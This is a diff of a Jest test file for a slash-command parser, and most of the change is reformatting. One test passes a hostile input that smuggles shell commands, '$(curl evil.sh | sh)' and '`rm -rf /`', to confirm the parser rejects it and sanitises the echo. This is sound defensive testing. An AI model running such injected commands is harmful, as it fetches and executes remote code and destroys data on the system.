@@ -7,8 +7,14 @@ describe('parseBackendCommand', () => {
   });
 
   it('reads review and handoff with a known area', () => {
-    expect(parseBackendCommand('/backend review performance')).toEqual({ name: 'review', area: 'performance' });
-    expect(parseBackendCommand('  /Backend HANDOFF api-design  ')).toEqual({ name: 'handoff', area: 'api-design' });
+    expect(parseBackendCommand('/backend review performance')).toEqual({
+      name: 'review',
+      area: 'performance',
+    });
+    expect(parseBackendCommand('  /Backend HANDOFF api-design  ')).toEqual({
+      name: 'handoff',
+      area: 'api-design',
+    });
   });
 
   it('treats a bare /backend as help', () => {
@@ -22,7 +28,10 @@ describe('parseBackendCommand', () => {
   });
 
   it('marks unknown areas and verbs as unknown, keeping only a short safe echo', () => {
-    expect(parseBackendCommand('/backend review everything')).toEqual({ name: 'unknown', text: 'review everything' });
+    expect(parseBackendCommand('/backend review everything')).toEqual({
+      name: 'unknown',
+      text: 'review everything',
+    });
     const hostile = parseBackendCommand('/backend run $(curl evil.sh | sh) `rm -rf /`');
     expect(hostile?.name).toBe('unknown');
     expect(hostile && 'text' in hostile ? hostile.text : '').not.toMatch(/[$`|()/]/);
